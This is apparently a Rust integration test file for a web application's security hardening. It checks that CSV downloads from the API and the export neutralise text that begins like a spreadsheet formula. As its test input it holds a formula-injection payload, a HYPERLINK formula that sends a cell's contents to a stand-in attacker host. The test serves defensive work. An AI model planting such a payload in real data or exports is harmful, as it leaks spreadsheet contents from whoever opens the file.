//! The findings of the hardening probe, each through the real server:
//! formulas in CSV downloads, bounded fields and spans, passwords, the
//! public URL in exports, caching of authenticated answers, the login
//! form's CSRF token and JSON bodies for every error of the API.

use reqwest::StatusCode;
use serde_json::json;

use crate::common::*;

/// The cells of a CSV download, row by row (the header first).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    r.records().map(|rec| rec.expect("a CSV record").iter().map(str::to_string).collect()).collect()
}

/// Text that starts like a formula is neutralised in every CSV download:
/// a list of the API and the export of every fact.
#[tokio::test]
async fn csv_downloads_neutralise_formulas() {
    let holder = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Details")"#;
    let fact = json!({ "kind": "role", "holder": holder, "role": "Member", "organ": "EUROCITIES Culture Forum", "from": "2042" });
    let (status, v) = post_json("/api/facts", &fact).await;
    assert_eq!(status, StatusCode::CREATED, "{v}");
    let neutral = format!("'{holder}");
    for path in ["/api/roles?organ=EUROCITIES%20Culture%20Forum&format=csv", "/api/export?format=csv"] {
        let (status, text) = get_text(path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        let rows = csv_rows(&text);
        assert!(rows.iter().flatten().any(|c| *c == neutral), "{path}: no neutralised cell");
        for cell in rows.iter().flatten() {
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r']) || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "{path}: a cell starts like a formula: {cell}");
        }
    }
    // Negative numbers stay numbers.
    let (_, text) = get_text("/api/cities?q=lisbon&format=csv&limit=1").await;
    assert!(csv_rows(&text).iter().flatten().any(|c| c.starts_with("-9.")), "a western longitude is a plain number: {text}");
}
